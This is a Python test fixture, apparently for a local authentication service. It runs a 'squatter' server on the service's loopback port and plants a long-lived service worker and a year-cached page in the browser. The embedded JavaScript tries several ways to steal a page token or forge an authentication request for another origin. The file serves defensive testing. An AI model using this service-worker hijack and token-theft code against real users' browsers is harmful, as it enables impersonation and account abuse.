"""A program that held a port of ours before us, and what it leaves in a browser: a worker, a page kept for a year."""

from enum import StrEnum
from functools import partial
from pathlib import Path
from socket import AF_INET, AF_INET6
from typing import Any

from tests.stand.pages import PageHandler, PageServer


class Plant(StrEnum):
    """What stays behind in the browser."""

    WORKER = "worker"
    CACHE = "cached page"


# What the planted page does when the evil site opens it in the place of our popup: it is of one origin with whatever is
# served under the fixed name, and tries every way from there to an order in another site's name. It tells its opener.
_PLANTED = """<!DOCTYPE html><meta charset="utf-8"><title>planted</title><script type="module">
const order = {{ origin: "{victim}", challenge: "{challenge}", language: "en" }};
const tell = (name, value) => opener.postMessage({{ planted: name, value }}, "*");
const tokenIn = (text) => /name="page-token" content="([^"]+)"/.exec(text)?.[1] ?? "none";
const later = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
async function post(page_token) {{
  const headers = {{ "content-type": "application/json" }};
  const options = {{ method: "POST", headers, body: JSON.stringify({{ ...order, page_token }}) }};
  return (await fetch("/v1/popup/authenticate", options)).json();
}}
const ways = {{
  async fetched() {{ return post(tokenIn(await (await fetch("/v1/popup", {{ cache: "reload" }})).text())); }},
  async guessed() {{ return post("A".repeat(43)); }},
  async framed() {{
    const frame = document.createElement("iframe");
    frame.src = "/v1/popup";
    document.body.append(frame);
    await later(1000);
    return post(tokenIn(frame.contentDocument.documentElement.innerHTML));
  }},
  async opened() {{
    const other = open("/v1/popup", "other");
    await later(1000);
    return post(tokenIn(other.document.documentElement.innerHTML));
  }},
  async direct() {{
    const headers = {{ "content-type": "application/json" }};
    return (await fetch("/v1/authenticate", {{ method: "POST", headers, body: JSON.stringify(order) }})).json();
  }},
}};
if (window.name !== "other" && window.top === window) {{
  for (const [name, way] of Object.entries(ways)) {{
    await way().then((value) => tell(name, value), (error) => tell(name, `${{error}}`));
  }}
  tell("done", location.origin);
}}
</script>"""
_HOME = """<!DOCTYPE html><meta charset="utf-8"><title>squatter</title><script type="module">
await navigator.serviceWorker.register("/worker.js");
await navigator.serviceWorker.ready;
while (!navigator.serviceWorker.controller) await new Promise((resolve) => setTimeout(resolve, 20));
opener.postMessage({ planted: "worker" }, "*");
</script>"""
# Answers in our place whenever a page of another origin leads here.
_WORKER = """const page = {page!r};
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {{
  const from = event.request.referrer;
  if (event.request.mode !== "navigate" || from.startsWith(location.origin)) return;
  event.respondWith(new Response(page, {{ headers: {{ "content-type": "text/html" }} }}));
}});"""


class Squatter:
    """It, on a port of both loopback addresses; a context manager. `asked` are the paths that it was asked for.

    `certificate`: it speaks TLS, with a certificate that some root of the computer vouches for.
    """

    def __init__(self, port: int, victim: str = "", challenge: str = "", certificate: Path | None = None) -> None:
        self.asked: list[str] = []
        page = _PLANTED.format(victim=victim, challenge=challenge)
        self.pages = {
            "/": ("text/html", _HOME),
            "/worker.js": ("text/javascript", _WORKER.format(page=page)),
            "/v1/popup": ("text/html", page),
        }
        self._servers = [
            PageServer(partial(_Handler, self), certificate, port=port, address=address, family=family)
            for address, family in (("127.0.0.1", AF_INET), ("::1", AF_INET6))
        ]

    def __enter__(self) -> "Squatter":
        """Starts to serve."""
        for server in self._servers:
            server.__enter__()
        return self

    def __exit__(self, *error: Any) -> None:
        """Gives the port back."""
        for server in self._servers:
            server.__exit__(*error)


class _Handler(PageHandler):
    def __init__(self, squatter: Squatter, *arguments: Any) -> None:
        self._squatter = squatter
        super().__init__(*arguments)

    def do_GET(self) -> None:
        """A page, to be kept for a year."""
        self._squatter.asked.append(self.path)
        kind, text = self._squatter.pages.get(self.path, ("text/plain", ""))
        self.send(text, kind, {"Cache-Control": "max-age=31536000, immutable"})
